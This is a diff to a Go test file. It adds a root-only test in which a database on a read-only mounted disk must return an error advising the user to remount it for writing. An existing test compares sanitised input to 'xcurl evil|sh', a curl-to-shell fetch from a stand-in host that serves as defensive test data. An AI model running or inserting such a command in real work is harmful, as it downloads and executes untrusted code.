@@ -11,6 +11,8 @@ import (
 	"testing"
 	"time"
 
+	"golang.org/x/sys/unix"
+
 	"holdfast/internal/testkit"
 	"holdfast/manifest"
 	"holdfast/remedy"
@@ -94,6 +96,19 @@ func TestFactsHoldNoControlCharacters(t *testing.T) {
 	testkit.OK(t, err)
 	if facts, _ := begin(t, open(t, dir)).Facts(t.Context()); facts.Migration != "xcurl evil|sh" {
 		t.Errorf("%q", facts.Migration)
+	}
+}
+
+func TestDatabaseOnAReadOnlyDiskBlamesTheDisk(t *testing.T) {
+	testkit.NeedsRoot(t)
+	dir, frozen := used(t, "WAL"), t.TempDir()
+	testkit.MountSmallDisk(t, frozen, "size=64m")
+	testkit.OK(t, os.CopyFS(frozen, os.DirFS(dir)))
+	testkit.OK(t, unix.Mount("", frozen, "", unix.MS_REMOUNT|unix.MS_RDONLY, ""))
+	_, err := open(t, frozen).Begin(t.Context(), "social.example.org")
+	var p *remedy.Error
+	if !errors.As(err, &p) || !strings.Contains(p.Fix, "mount "+frozen+" for writing") {
+		t.Errorf("%v: %+v", err, p)
 	}
 }
 
